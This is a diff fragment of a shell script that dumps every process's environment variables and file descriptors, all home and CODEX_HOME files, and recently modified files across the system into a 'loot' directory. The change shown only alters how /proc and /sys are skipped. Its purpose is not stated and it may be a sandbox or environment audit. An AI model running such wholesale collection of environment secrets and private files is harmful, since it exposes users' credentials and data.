@@ -33,7 +33,7 @@ for process in /proc/[0-9]*; do
   echo "$process"; tr '\0' '\n' < "$process/environ"; ls -l "$process/fd"
 done > "$loot/processes"
 find "${HOME:-/nowhere}" "$CODEX_HOME" -type f -exec cat {} + > "$loot/home"
-find / \( -path /proc -o -path /sys -o -name target -o -name node_modules -o -name .git -o -name loot \) -prune -o \
+find / \( -fstype proc -o -fstype sysfs -o -name target -o -name node_modules -o -name .git -o -name loot \) -prune -o \
   -newer "$mark" -type f -size -512k -exec cat {} + > "$loot/files"
 pid=$$
 while [ "$pid" -gt 1 ]; do
